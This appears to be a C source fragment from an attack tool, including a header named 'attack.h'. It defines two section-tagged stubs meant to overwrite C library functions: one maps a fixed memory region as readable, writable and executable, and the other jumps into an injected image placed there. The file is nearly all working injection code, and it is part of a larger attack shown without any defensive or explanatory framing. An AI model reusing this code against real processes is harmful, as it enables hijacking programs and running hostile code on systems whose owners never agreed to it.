/*
 * Two pieces of code, each small enough to stand in for a function of the C library: the one makes room for the image,
 * the other goes there. They are cut out of the object file by their sections.
 */
#include "attack.h"

__attribute__((section(".map"))) long make_room(void) {
        /* PROT_READ | PROT_WRITE | PROT_EXEC; MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE */
        return SYS(mmap, IMAGE_ADDRESS, IMAGE_BYTES, 7, 0x100022, -1);
}

__attribute__((section(".jump"))) int enter_image(int which, int who) {
        return ((int (*)(int, int)) IMAGE_ADDRESS)(which, who);
}
